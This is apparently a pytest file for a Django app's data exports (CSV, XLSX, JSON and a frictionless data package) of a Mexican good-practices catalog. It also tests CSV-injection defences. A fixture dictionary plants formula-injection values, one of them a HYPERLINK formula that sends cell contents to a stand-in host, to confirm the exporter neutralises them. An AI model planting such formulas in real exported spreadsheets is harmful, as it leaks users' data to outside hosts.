"""Exports of filtered views: CSV with BOM, XLSX sheets with the data dictionary, JSON shapes, and a data
package that frictionless validates."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.http import QueryDict
from openpyxl import load_workbook

from buenaspracticas.catalog.filters import PracticeFilters
from buenaspracticas.reports.exports import export_bytes


def _filters(query: str) -> PracticeFilters:
    return PracticeFilters.from_query(QueryDict(query))


def test_csv_has_bom_accents_and_only_the_filtered_practices(report):
    content, name = export_bytes(fmt="csv", filters=_filters("estado=oaxaca"))
    assert content.startswith(b"\xef\xbb\xbf") and name.endswith(".csv")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == [f"oaxaca-{n}" for n in range(1, 6)]
    assert rows[0]["state_code"] == "MX-OAX" and rows[0]["sostenibilidad"] in {"met", "not_met", "unknown"}


def test_xlsx_has_one_sheet_per_table_and_a_data_dictionary(report):
    content, _ = export_bytes(fmt="xlsx", filters=_filters("region=norte"))
    wb = load_workbook(io.BytesIO(content), read_only=True)
    assert wb.sheetnames == [
        "practices",
        "indicators",
        "quality_flags",
        "states",
        "documents",
        "findings",
        "dictionary",
    ]
    states = {row[0] for row in wb["practices"].iter_rows(min_row=2, values_only=True)}
    assert states  # ids
    codes = {row[1] for row in wb["practices"].iter_rows(min_row=2, values_only=True)}
    assert codes <= {"MX-BCN", "MX-CHH", "MX-DUR"}
    dictionary = list(wb["dictionary"].iter_rows(min_row=2, values_only=True))
    assert ("practices", "title") in {(r[0], r[1]) for r in dictionary}


def test_json_export_uses_the_design_shapes(report):
    content, _ = export_bytes(fmt="json", filters=_filters("criterio=innovacion&califica=true"))
    data = json.loads(content)
    assert data["filters"] == {"criterion": ["innovacion"], "qualifies": ["true"]}
    assert data["practices"] and all(p["qualifies"] for p in data["practices"])
    assert {"id", "state", "criteria", "criteria_met", "source"} <= set(data["practices"][0])
    assert {"code", "slug", "panorama", "indicators", "quality_flags"} <= set(data["states"][0])


def test_datapackage_validates_with_frictionless(report, tmp_path):
    content, _ = export_bytes(fmt="datapackage", filters=PracticeFilters())
    zipfile.ZipFile(io.BytesIO(content)).extractall(tmp_path)
    descriptor = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["licenses"] and descriptor["sources"]
    assert {r["name"] for r in descriptor["resources"]} >= {"practices", "indicators"}
    cli = Path(sys.executable).with_name("frictionless")
    result = subprocess.run(
        [str(cli), "validate", "--json", "datapackage.json"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    report_json = json.loads(result.stdout)
    assert report_json["valid"], result.stdout[:2000]
    assert result.returncode == 0


def test_export_pages_serve_files_with_the_search_filters(report, client):
    response = client.get("/exportar/practicas.csv", {"estado": "oaxaca"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.decode("utf-8-sig").count("\r\noaxaca-") == 5
    assert client.get("/exportar/practicas.csv", {"estado": "atlantida"}).status_code == 422
    assert client.get("/importar/plantilla.xlsx").status_code == 200


def test_downloads_partial_links_to_the_report_routes():
    from django.template.loader import render_to_string

    html = render_to_string("reports/_downloads.html", {"kind": "list", "query_string": "estado=oaxaca"})
    assert "/exportar/practicas.csv?estado=oaxaca" in html and "/informes/compendio.pdf" in html
    html = render_to_string("reports/_downloads.html", {"kind": "state", "state_slug": "oaxaca"})
    assert "/informes/estados/oaxaca.pdf" in html
    html = render_to_string("reports/_downloads.html", {"kind": "practice", "practice_id": "oaxaca-2"})
    assert "/informes/practicas/oaxaca-2.pdf" in html


# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), planted in a published ficha.
_HOSTILE = {
    "title": '=HYPERLINK("http://example.invalid/?d="&A1,"Ver ficha")',
    "description": "+1 ciudad atendida",
    "target_population": "-2 grupos de personas",
    "institution": "@SUM(A1:A9)",
}


def _plant_hostile_cells() -> None:
    """Give oaxaca-1 formula-like texts and one of Oaxaca's figures a negative value."""
    from buenaspracticas.catalog import services as catalog_services
    from buenaspracticas.catalog.models import Practice
    from buenaspracticas.curation.services import indicator_update
    from buenaspracticas.panorama.models import Indicator

    practice = Practice.objects.get(public_id="oaxaca-1")
    catalog_services.practice_update(
        practice_id=practice.pk,
        data=_HOSTILE,
        expected_version=None,
    )
    figure = Indicator.objects.filter(panorama__state__code="MX-OAX", key="total_population").get()
    indicator_update(user=None, indicator_id=figure.pk, value=-2.5, reason="Prueba de cifra negativa")


def test_csv_prefixes_formula_like_text_with_a_quote_and_keeps_negative_numbers(report):
    _plant_hostile_cells()
    content, _ = export_bytes(fmt="csv", filters=_filters("estado=oaxaca"))
    row = next(r for r in csv.DictReader(io.StringIO(content.decode("utf-8-sig"))) if r["id"] == "oaxaca-1")
    for column, text in _HOSTILE.items():
        assert row[column] == "'" + text
    assert row["state_code"] == "MX-OAX" and row["number"] == "1"

    content, _ = export_bytes(fmt="csv", filters=_filters("estado=oaxaca"), table="indicators")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    population = next(r for r in rows if r["key"] == "total_population")
    assert float(population["value"]) == -2.5  # a number, not the text "'-2.5"


def test_xlsx_writes_formula_like_text_as_text_cells_and_numbers_as_numbers(report):
    _plant_hostile_cells()
    content, _ = export_bytes(fmt="xlsx", filters=_filters("estado=oaxaca"))
    wb = load_workbook(io.BytesIO(content))
    sheet = wb["practices"]
    header = [c.value for c in sheet[1]]
    cells = next(
        dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2) if r[0].value == "oaxaca-1"
    )
    for column, text in _HOSTILE.items():
        assert cells[column].value == text and cells[column].data_type == "s"
        assert cells[column].quotePrefix  # stays text when someone edits the cell in Excel
    every_cell = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    assert not [c.coordinate for c in every_cell if c.data_type == "f"]
    sheet = wb["indicators"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2)]
    population = next(r for r in rows if r["key"].value == "total_population")
    assert population["value"].value == -2.5 and population["value"].data_type == "n"


def test_exported_csv_and_xlsx_with_formula_like_text_import_back_unchanged(report, tmp_path):
    from buenaspracticas.reports.import_write import import_file

    _plant_hostile_cells()
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"oaxaca.{fmt}"
        path.write_bytes(export_bytes(fmt=fmt, filters=_filters("estado=oaxaca"))[0])
        result = import_file(path, dry_run=True)
        assert result.practices.changed_ids == [], fmt
        assert result.practices.unchanged == 5 and result.panoramas.updated == 0, fmt


def _people_workbook(query: str):
    content, name = export_bytes(fmt="xlsx-personas", filters=_filters(query))
    assert name == "buenaspracticas-personas.xlsx"
    return load_workbook(io.BytesIO(content))


def test_people_xlsx_reads_in_spanish_with_names_words_filters_and_a_frozen_header(report):
    wb = _people_workbook("estado=oaxaca")
    assert wb.sheetnames == ["Léame", "Prácticas", "Indicadores"]
    readme = " ".join(str(c.value) for c in wb["Léame"]["A"] if c.value)
    assert "Buenas prácticas" in readme and "Fuente" in readme and "OIM" in readme

    sheet = wb["Prácticas"]
    header = [c.value for c in sheet[1]]
    assert header[:10] == [
        "Estado",
        "Región",
        "Número",
        "Título",
        "Institución",
        "Dimensiones",
        "Población objetivo",
        "Criterios cumplidos",
        "¿Buena práctica?",
        "Estatus",
    ]
    assert {"Sostenibilidad", "Asociación", "Innovación", "Replicabilidad", "Eficacia"} <= set(header)
    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)]
    second = next(r for r in rows if r["Número"] == 2)
    assert second["Estado"] == "Oaxaca" and second["Región"] == "Sur-Sureste"
    assert second["¿Buena práctica?"] in {"Sí", "No"} and second["Estatus"] in {"Vigente", "Suspendida"}
    assert {r["Eficacia"] for r in rows} <= {"Cumple", "No cumple", "Sin dato"}
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.freeze_panes == "A2"
    title_letter = sheet.cell(row=1, column=header.index("Título") + 1).column_letter
    assert sheet.column_dimensions[title_letter].width > 13
    assert sheet.cell(row=2, column=header.index("Título") + 1).alignment.wrap_text

    indicators = wb["Indicadores"]
    ind_header = [c.value for c in indicators[1]]
    assert ind_header[:4] == ["Estado", "Región", "Indicador", "Valor"]
    ind_rows = list(indicators.iter_rows(min_row=2, values_only=True))
    assert ind_rows and all(r[2] for r in ind_rows)  # every figure has a label
    assert indicators.freeze_panes == "A2" and indicators.auto_filter.ref


@pytest.mark.parametrize("query", ["", "estado=oaxaca&criterio=innovacion&califica=true&estatus=active"])
def test_people_xlsx_holds_no_machine_codes(report, query):
    wb = _people_workbook(query)
    codes = {"not_met", "met", "unknown", "active", "suspended", "true", "false", "sur-sureste", "MX-OAX"}
    cells = [str(c.value) for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]
    assert not [c for c in cells if c in codes or "not_met" in c or "retorno;" in c or "transito" in c]
    rows = list(wb["Prácticas"].iter_rows(min_row=2, values_only=True))
    if query:
        assert rows and {r[0] for r in rows} == {"Oaxaca"}
        assert any("Filtros aplicados: Estado: Oaxaca" in c and "Sí" in c for c in cells)
    else:
        assert len(rows) == 44


def test_people_xlsx_is_served_and_linked_from_the_downloads(report, client):
    response = client.get("/exportar/practicas-personas.xlsx", {"estado": "oaxaca"})
    assert response.status_code == 200 and "personas.xlsx" in response["Content-Disposition"]
    rows = list(load_workbook(io.BytesIO(response.content))["Prácticas"].iter_rows(min_row=2))
    assert len(rows) == 5
    from django.template.loader import render_to_string

    html = render_to_string("reports/_downloads.html", {"kind": "list", "query_string": "estado=oaxaca"})
    assert "/exportar/practicas-personas.xlsx?estado=oaxaca" in html
    assert "Hoja de cálculo (XLSX) para personas" in html
